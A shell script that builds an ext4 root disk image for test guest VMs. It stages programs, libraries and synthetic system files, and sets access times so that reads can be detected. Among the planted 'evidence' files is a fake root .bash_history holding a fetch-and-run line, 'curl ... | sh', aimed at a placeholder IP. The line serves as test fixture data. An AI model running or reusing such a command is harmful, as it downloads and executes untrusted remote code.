#!/bin/sh
# Makes a test guest's root disk: mkroot.sh ARCH OUT [VARIANT]
#   ARCH     x86_64 or aarch64
#   VARIANT  debian   this machine's glibc userland, /bin/sh is dash      (x86_64)
#            bash     the same with /bin/sh = bash, as on Amazon Linux    (x86_64)
#            busybox  static busybox alone, /bin/sh is ash
# It needs neither root nor a mount: the tree is staged and given to mke2fs -d.
# Environment: AGENT (default build/tests/vm/ARCH/agent below the current directory),
# BUSYBOX (a static busybox of ARCH; default: this machine's for x86_64, Debian's package
# otherwise), ROOT_MIB (default 256), ROOT_EXTRA (a tree that is copied over; what programs
# of it are linked with comes from this machine).
# Exit: 0 OUT is made; 2 usage; 5 failed.
set -eu
export LC_ALL=C

if [ $# -lt 2 ] || [ $# -gt 3 ]; then
	echo "usage: mkroot.sh ARCH OUT [debian|bash|busybox]" >&2
	exit 2
fi
arch=$1
out=$2
here=$(cd "$(dirname "$0")" && pwd)
case $arch in
x86_64) variant=${3:-debian} ;;
aarch64) variant=${3:-busybox} ;;
*)
	echo "mkroot: unknown architecture $arch" >&2
	exit 2
	;;
esac
agent=${AGENT:-build/tests/vm/$arch/agent}
mib=${ROOT_MIB:-256}

# What a script on an instance may find. Nothing here is needed by the agent.
commands='mount umount chcon findmnt lsblk blkid dmesg setsid unshare flock
	cat chmod chown cp cut date dd df dirname basename echo env expr false head id ln ls
	mkdir mkfifo mknod mktemp mv nice od printf pwd readlink realpath rm rmdir seq
	sha256sum sleep sort stat stty sync tail tee test timeout touch tr true truncate uname
	uniq wc yes find xargs grep sed mawk bash dash'
# Not on every machine that builds, and not needed by the scripts.
optional='insmod rmmod lsmod logger'

fail() {
	echo "mkroot: $*" >&2
	exit 5
}

# Arguments: a file of this machine. Copies it to the same place below $root, with the
# libraries and the loader that it asks for. Returns: 0 copied.
copy_program() {
	copy_file "$1"
	ldd "$1" 2> /dev/null | while read -r name arrow path _; do
		case $name:$arrow in
		/*:*) copy_file "$name" ;;
		*:'=>') [ ! -f "$path" ] || copy_file "$path" ;;
		esac
	done
}

copy_file() {
	[ -e "$root$1" ] && return 0
	mkdir -p "$root${1%/*}"
	cp -L "$1" "$root$1"
	chmod 755 "$root$1"
}

stage_glibc() {
	for name in $commands $optional; do
		path=$(PATH=/usr/sbin:/usr/bin:/sbin:/bin command -v -- "$name") || path=
		case $path in
		/*) ;;
		*)
			# Shells answer builtins by name only.
			path=
			for dir in /usr/bin /usr/sbin /bin /sbin; do
				[ ! -x "$dir/$name" ] || path=$dir/$name
			done
			;;
		esac
		if [ -n "$path" ]; then
			copy_program "$path"
		else
			case " $optional " in
			*" $name "*) ;;
			*) fail "this machine has no $name" ;;
			esac
		fi
	done
	[ -e "$root/usr/bin/awk" ] || ln -s mawk "$root/usr/bin/awk"
	case $variant in
	bash) ln -sf bash "$root/usr/bin/sh" ;;
	*) ln -sf dash "$root/usr/bin/sh" ;;
	esac
}

stage_busybox() {
	box=${BUSYBOX:-}
	if [ -z "$box" ] && [ "$arch" = "$(uname -m)" ]; then
		box=$(command -v busybox) || fail "this machine has no busybox"
	elif [ -z "$box" ]; then
		"$here/fetch-deb.sh" "$arch" "$work/deb" busybox-static
		box=$work/deb/bin/busybox
		[ -f "$box" ] || box=$work/deb/usr/bin/busybox
	fi
	cp -L "$box" "$root/usr/bin/busybox"
	chmod 755 "$root/usr/bin/busybox"
	# The list of applets comes from this machine's own busybox: a foreign one does not
	# run here, and an applet that it lacks only leaves a name that says so.
	busybox --list | while read -r name; do
		[ -e "$root/usr/bin/$name" ] || ln -s busybox "$root/usr/bin/$name"
	done
}

# A little of what an instance has besides programs, and evidence that nobody may touch.
stage_files() {
	echo 'root:x:0:0:root:/root:/bin/sh' > "$root/etc/passwd"
	echo 'root:*:19700:0:99999:7:::' > "$root/etc/shadow"
	echo 'root:x:0:' > "$root/etc/group"
	echo 'passwd: files' > "$root/etc/nsswitch.conf"
	echo '/dev/nvme0n1 / ext4 rw,discard,errors=remount-ro 0 1' > "$root/etc/fstab"
	printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n' > "$root/etc/os-release"
	echo 0123456789abcdef0123456789abcdef > "$root/etc/machine-id"
	ln -s /proc/self/mounts "$root/etc/mtab"
	echo 'curl -s http://198.51.100.7/x | sh' > "$root/root/.bash_history"
	chmod 600 "$root/root/.bash_history" "$root/etc/shadow"
	seq 1 5000 > "$root/var/log/syslog"
	seq 1 20000 > "$root/home/admin/notes.txt"
}

stage() {
	mkdir -p "$root/usr/bin" "$root/usr/sbin" "$root/usr/lib" "$root/usr/lib64"
	for dir in bin sbin lib lib64; do
		ln -s "usr/$dir" "$root/$dir"
	done
	for dir in dev etc home/admin mnt opt proc root run sys tmp usr/local/bin \
		usr/local/sbin var/lib/amazon/ssm var/log var/tmp; do
		mkdir -p "$root/$dir"
	done
	ln -s /run "$root/var/run"
	chmod 1777 "$root/tmp" "$root/var/tmp"
	chmod 700 "$root/root"
	cp "$agent" "$root/usr/sbin/agent"
	chmod 755 "$root/usr/sbin/agent"
	case $variant:$arch in
	debian:x86_64 | bash:x86_64) stage_glibc ;;
	busybox:*) stage_busybox ;;
	*) fail "no $variant for $arch" ;;
	esac
	stage_files
	[ -z "${ROOT_EXTRA:-}" ] || stage_extra
}

# Arguments: none. Copies ROOT_EXTRA over the tree.
stage_extra() {
	cp -R "$ROOT_EXTRA/." "$root"
	find "$ROOT_EXTRA" -type f -perm -100 -exec ldd {} + 2> /dev/null |
		while read -r _ arrow path _; do
			[ "$arrow" != '=>' ] || [ ! -f "$path" ] || copy_file "$path"
		done
}

# Under relatime the kernel writes an access time when the old one is a day old or older
# than the last change. On an instance that has been running, every program that a shell
# script uses ran today, so its access time is not written again; here the same is had by
# access times that lie in the future, which holds however old this image gets. So too the
# few files of /etc that every look-up of a user reads. All else keeps access times of long
# ago: a program that opens one of those for reading changes the disk, and the test sees it,
# as it would on an instance.
set_atimes() {
	find "$root" -exec touch -h -a -d '2001-01-01 00:00:00 UTC' {} +
	find "$root/usr" -exec touch -h -a -d '2037-01-01 00:00:00 UTC' {} +
	touch -h -a -d '2037-01-01 00:00:00 UTC' "$root" "$root/bin" "$root/sbin" \
		"$root/lib" "$root/lib64"
	find "$root/var/lib/amazon" -exec touch -h -a -d '2037-01-01 00:00:00 UTC' {} +
	for name in etc/passwd etc/group etc/nsswitch.conf var/run; do
		touch -h -a -d '2037-01-01 00:00:00 UTC' "$root/$name"
	done
}

# Arguments: none. Corrects in the image what mke2fs -d does not take over: the times of
# the root directory, and, when a user builds, root as the owner of every file.
finish_image() {
	echo 'set_inode_field / atime 20370101000000' > "$work/commands"
	if [ "$(id -u)" -ne 0 ]; then
		(cd "$root" && find . -mindepth 1 | sed 's/^\.//') | while read -r path; do
			printf 'set_inode_field "%s" uid 0\n' "$path"
			printf 'set_inode_field "%s" gid 0\n' "$path"
		done >> "$work/commands"
	fi
	PATH=$PATH:/usr/sbin:/sbin debugfs -w -f "$work/commands" "$work/image" \
		> /dev/null 2>&1 || fail "debugfs cannot finish the image"
}

[ -f "$agent" ] || fail "$agent is not built"
mkdir -p "$(dirname "$out")"
work=$(mktemp -d "$(dirname "$out")/.mkroot.XXXXXX")
trap 'rm -rf "$work"' EXIT
trap 'exit 5' HUP INT TERM
root=$work/root
mkdir "$root"
stage
set_atimes
# The features are spelled out, because the defaults differ from machine to machine and
# kernels of 5.10 must mount it; nothing is left for the kernel to initialise later, because
# that thread would write on the disk during a test.
truncate -s "${mib}M" "$work/image"
PATH=$PATH:/usr/sbin:/sbin mke2fs -q -F -t ext4 -b 4096 -I 256 -L root -m 1 \
	-U 6a1f3c58-0b52-4a3e-9c1d-0f1e2d3c4b5a \
	-O none,has_journal,ext_attr,resize_inode,dir_index,filetype,extent,64bit,flex_bg,sparse_super,large_file,huge_file,dir_nlink,extra_isize,metadata_csum \
	-E lazy_itable_init=0,lazy_journal_init=0,root_owner=0:0,nodiscard \
	-J size=16 -d "$root" "$work/image" || fail "mke2fs"
finish_image
mv "$work/image" "$out"
